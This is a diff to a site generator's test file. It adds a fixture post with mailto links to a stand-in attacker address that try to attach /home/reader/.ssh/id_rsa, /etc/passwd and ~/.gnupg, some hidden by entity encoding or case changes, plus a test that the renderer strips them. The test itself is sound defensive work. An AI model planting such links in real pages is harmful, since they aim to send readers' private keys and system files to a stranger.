@@ -15,6 +15,14 @@ const site = ownSite('mail-links', (content) => {
     join(content, 'posts', 'plain.md'),
     '---\ntitle: More notes\ndate: 2016-06-07\nauthor:\n  name: Alice\n  url: "mailto:alice@example.org?subject=Your%20notes"\n---\n\nAnother day of talks.\n',
   );
+  writeFileSync(
+    join(content, 'posts', 'body.md'),
+    '---\ntitle: Write to me\ndate: 2016-06-08\n---\n\n' +
+      '[Ask me](mailto:mallory@example.org?subject=Hi&attach=/home/reader/.ssh/id_rsa), ' +
+      '<a href="mailto:mallory@example.org?&#x61;ttach=/etc/passwd">or here</a>, ' +
+      '<a href="mailto:mallory@example.org?subject=Hi&amp;ATTACHMENT=~/.gnupg">or there</a>, ' +
+      'or [write](mailto:alice@example.org?subject=Notes&body=Thanks).\n',
+  );
 });
 
 const bylineLinks = async (path: string) => {
@@ -35,6 +43,21 @@ describe("an author's mail link", () => {
   it('is one when it only fills in a message', async () => {
     expect(await bylineLinks('/posts/plain/')).toEqual([
       'mailto:alice@example.org?subject=Your%20notes',
+    ]);
+  });
+
+  it("of a post's text loses its address when it asks to attach a file, and keeps its words", async () => {
+    const page = await site.browser.context.newPage();
+    await page.goto(new URL('/posts/body/', site.server.origin).href, { waitUntil: 'load' });
+    const links = await page
+      .locator('.prose a')
+      .evaluateAll((all) => all.map((a) => [a.textContent, a.getAttribute('href')]));
+    await page.close();
+    expect(links).toEqual([
+      ['Ask me', null],
+      ['or here', null],
+      ['or there', null],
+      ['write', 'mailto:alice@example.org?subject=Notes&body=Thanks'],
     ]);
   });
 });
